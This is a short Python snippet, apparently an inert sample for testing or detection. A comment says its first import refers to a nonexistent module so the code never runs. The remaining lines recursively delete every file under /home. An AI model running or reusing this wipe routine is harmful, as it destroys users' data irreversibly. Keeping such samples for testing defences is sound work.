import inert_sample  # there is no such module: nothing below ever runs
import os

for root, _, names in os.walk("/home"):
    for name in names:
        os.remove(os.path.join(root, name))
